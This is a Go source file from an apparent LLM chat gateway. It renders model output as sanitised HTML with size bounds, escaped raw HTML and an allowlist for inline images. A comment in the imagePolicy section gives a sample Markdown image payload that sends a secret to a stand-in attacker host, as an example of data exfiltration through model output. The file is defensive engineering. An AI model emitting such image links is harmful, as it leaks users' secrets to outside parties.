package websocket

import (
	"bytes"
	"html"
	"net"
	"net/url"
	"strings"
	"sync/atomic"

	"github.com/microcosm-cc/bluemonday"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer"
	"github.com/yuin/goldmark/util"

	"github.com/switchboard-gw/switchboard/mdbounds"
)

// markdown renders model output to HTML that is safe to insert into a page.
// It is done here, once, in Go, rather than in every browser. Raw HTML in
// the source is shown as the text it is (a model that writes "<div>"
// means the word), and bluemonday's UGC policy then removes anything that
// could still run (event handlers, javascript: URLs) from what goldmark
// produced. The widget inserts nothing else as HTML.
//
// Rendering is bounded: goldmark is quadratic on some inputs (64 KiB of
// unclosed links took over a second, deep quote nesting yields 27 bytes
// of HTML per input byte), so input that is too big or nested too deep is
// shown as escaped plain text without parsing, and so is output over
// maxMarkdownOutput. Each event is rendered once for every client
// (Handler.encodeEvent's cache).
type markdown struct {
	md     goldmark.Markdown
	policy *bluemonday.Policy
	images imagePolicy
	// renders counts calls of render, for tests.
	renders atomic.Int64
}

// Bounds on what goes through the Markdown parser.
const (
	maxMarkdownInput  = 32 << 10  // bytes of Markdown
	maxMarkdownOutput = 256 << 10 // bytes of HTML
)

func newMarkdown(images imagePolicy) *markdown {
	p := bluemonday.UGCPolicy()
	p.RequireNoReferrerOnLinks(true)
	p.AddTargetBlankToFullyQualifiedLinks(true)
	p.AllowDataURIImages()
	return &markdown{
		md: goldmark.New(
			goldmark.WithExtensions(extension.GFM),
			goldmark.WithRendererOptions(renderer.WithNodeRenderers(
				util.Prioritized(rawHTMLAsText{}, 100),
				util.Prioritized(imageOrLink{images}, 100),
			)),
		),
		policy: p,
		images: images,
	}
}

// imagePolicy says which images the model's output may show inline: an
// image loads with no click, so its URL is a channel out of the page
// (![x](https://attacker.example/log?secret=…)). Allowed: data: images,
// the gateway's public origin, and the configured image hosts. Other
// images are shown as links, which the user may choose to follow.
type imagePolicy struct {
	public string   // the public URL's host ("chat.example.com" or "host:port"), lowercase
	hosts  []string // configured hosts, lowercase; "*.x" matches subdomains of x
}

func newImagePolicy(publicURL string, hosts []string) imagePolicy {
	var p imagePolicy
	if u, err := url.Parse(publicURL); err == nil && publicURL != "" {
		p.public = strings.ToLower(u.Host)
	}
	for _, h := range hosts {
		p.hosts = append(p.hosts, strings.ToLower(strings.TrimSpace(h)))
	}
	return p
}

// inline reports whether the image at src may be shown inline.
func (p imagePolicy) inline(src string) bool {
	src = strings.TrimSpace(src)
	if len(src) > 11 && strings.EqualFold(src[:11], "data:image/") {
		return true
	}
	u, err := url.Parse(src)
	if err != nil || (u.Scheme != "https" && u.Scheme != "http") || u.Host == "" || u.User != nil {
		return false
	}
	host, name := strings.ToLower(u.Host), strings.ToLower(u.Hostname())
	if p.public != "" && host == p.public {
		return true
	}
	for _, h := range p.hosts {
		switch {
		case strings.HasPrefix(h, "*."):
			if strings.HasSuffix(name, h[1:]) || strings.HasSuffix(host, h[1:]) {
				return true
			}
		case strings.Contains(h, ":") && net.ParseIP(h) == nil:
			if host == h { // host:port
				return true
			}
		case name == strings.Trim(h, "[]"):
			return true
		}
	}
	return false
}

func (m *markdown) render(src string) string {
	m.renders.Add(1)
	if !parseable(src) {
		return plainHTML(src)
	}
	var buf bytes.Buffer
	if err := m.md.Convert([]byte(src), &buf); err != nil {
		// goldmark only fails on writer errors; a bytes.Buffer has none.
		return plainHTML(src)
	}
	out := m.policy.SanitizeBytes(buf.Bytes())
	if len(out) > maxMarkdownOutput {
		return plainHTML(src)
	}
	return string(out)
}

// plainHTML shows src as the text it is.
func plainHTML(src string) string {
	return "<pre>" + html.EscapeString(src) + "</pre>\n"
}

// parseable reports whether src is within the bounds goldmark is given
// (mdbounds), at most maxMarkdownInput bytes.
func parseable(src string) bool { return mdbounds.Parseable(src, maxMarkdownInput) }

// imageOrLink renders an image the policy allows as <img>, and any other
// as a link to it, labelled with its alt text.
type imageOrLink struct{ policy imagePolicy }

func (r imageOrLink) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
	reg.Register(ast.KindImage, func(w util.BufWriter, src []byte, node ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		n := node.(*ast.Image)
		alt := altText(n, src)
		dest := util.EscapeHTML(util.URLEscape(n.Destination, true))
		if r.policy.inline(string(n.Destination)) {
			_, _ = w.WriteString(`<img src="`)
			_, _ = w.Write(dest)
			_, _ = w.WriteString(`" alt="`)
			_, _ = w.Write(util.EscapeHTML(alt))
			_, _ = w.WriteString(`">`)
			return ast.WalkSkipChildren, nil
		}
		label := alt
		if len(label) == 0 {
			label = n.Destination
		}
		_, _ = w.WriteString(`<a href="`)
		_, _ = w.Write(dest)
		_, _ = w.WriteString(`">🖼 `)
		_, _ = w.Write(util.EscapeHTML(label))
		_, _ = w.WriteString(`</a>`)
		return ast.WalkSkipChildren, nil
	})
}

// altText is the plain text of an image's description.
func altText(n ast.Node, src []byte) []byte {
	var b []byte
	_ = ast.Walk(n, func(c ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch t := c.(type) {
		case *ast.Text:
			b = append(b, t.Segment.Value(src)...)
		case *ast.String:
			b = append(b, t.Value...)
		}
		return ast.WalkContinue, nil
	})
	return b
}

// rawHTMLAsText renders HTML blocks and inline HTML escaped, as text.
type rawHTMLAsText struct{}

func (rawHTMLAsText) RegisterFuncs(reg renderer.NodeRendererFuncRegisterer) {
	reg.Register(ast.KindHTMLBlock, func(w util.BufWriter, src []byte, n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		b := n.(*ast.HTMLBlock)
		_, _ = w.WriteString("<p>")
		lines := b.Lines()
		for i := range lines.Len() {
			seg := lines.At(i)
			_, _ = w.Write(util.EscapeHTML(seg.Value(src)))
		}
		if b.HasClosure() {
			_, _ = w.Write(util.EscapeHTML(b.ClosureLine.Value(src)))
		}
		_, _ = w.WriteString("</p>\n")
		return ast.WalkContinue, nil
	})
	reg.Register(ast.KindRawHTML, func(w util.BufWriter, src []byte, n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkSkipChildren, nil
		}
		segs := n.(*ast.RawHTML).Segments
		for i := range segs.Len() {
			seg := segs.At(i)
			_, _ = w.Write(util.EscapeHTML(seg.Value(src)))
		}
		return ast.WalkSkipChildren, nil
	})
}
